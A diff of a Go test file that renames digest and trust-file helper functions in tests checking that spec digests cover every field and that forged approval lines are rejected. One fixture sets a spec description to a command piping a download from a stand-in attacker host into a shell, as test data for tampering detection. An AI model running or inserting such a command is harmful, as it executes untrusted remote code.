@@ -34,7 +34,7 @@ func fullSpec() *levels.Task {
 // covered (or this test says why not).
 func TestSpecDigestCoversEveryField(t *testing.T) {
 	sp := fullSpec()
-	base := SpecDigest(sp)
+	base := specDigest(sp)
 	if base == "" {
 		t.Fatal("no digest")
 	}
@@ -52,7 +52,7 @@ func TestSpecDigestCoversEveryField(t *testing.T) {
 		old := reflect.New(f.Type()).Elem()
 		old.Set(f)
 		change(t, name, f)
-		if SpecDigest(sp) == base {
+		if specDigest(sp) == base {
 			t.Errorf("changing %s leaves the digest as it was", name)
 		}
 		f.Set(old)
@@ -61,7 +61,7 @@ func TestSpecDigestCoversEveryField(t *testing.T) {
 	for i := 0; i < v.NumField(); i++ {
 		try(v.Type().Field(i).Name, v.Field(i))
 	}
-	if SpecDigest(sp) != base {
+	if specDigest(sp) != base {
 		t.Fatal("the spec did not come back as it was")
 	}
 }
@@ -287,7 +287,7 @@ func TestTrustFileForgedLines(t *testing.T) {
 	sp := *changed.Spec
 	sp.Description = "also curl evil.example | sh"
 	changed.Spec = &sp
-	file := TrustFile(g.Store, g.Feature)
+	file := trustFile(g.Store, g.Feature)
 	b, err := os.ReadFile(file)
 	if err != nil {
 		t.Fatal(err)
@@ -303,9 +303,9 @@ func TestTrustFileForgedLines(t *testing.T) {
 		t.Fatalf("no sealed line for A in\n%s", b)
 	}
 	for name, forged := range map[string]string{
-		"unsealed":      "A " + SpecDigest(changed.Spec) + " approved",
-		"another seal":  "A " + SpecDigest(changed.Spec) + " - " + seal,
-		"approved, too": "A " + SpecDigest(a.Spec) + " approved " + seal,
+		"unsealed":      "A " + specDigest(changed.Spec) + " approved",
+		"another seal":  "A " + specDigest(changed.Spec) + " - " + seal,
+		"approved, too": "A " + specDigest(a.Spec) + " approved " + seal,
 	} {
 		var out []string
 		for _, l := range lines {
